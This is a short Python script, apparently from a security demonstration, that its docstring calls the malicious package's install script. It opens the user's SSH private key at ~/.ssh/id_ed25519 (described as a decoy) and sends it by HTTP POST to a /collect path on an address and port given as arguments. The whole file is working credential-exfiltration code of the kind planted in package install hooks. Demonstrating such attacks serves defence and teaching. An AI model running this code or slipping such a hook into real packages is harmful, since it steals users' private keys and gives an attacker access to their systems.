#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""The malicious package of the demonstration: its install script reads the SSH key of the user (here a decoy) and posts
it.

usage: postinstall.py ADDRESS PORT        (writes its PID to stdout)"""

import http.client
import os
import sys


def main():
    print(os.getpid(), flush=True)
    with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as key:
        secret = key.read()
    connection = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]), timeout=5)
    connection.request("POST", "/collect", secret)
    connection.getresponse()


if __name__ == "__main__":
    main()
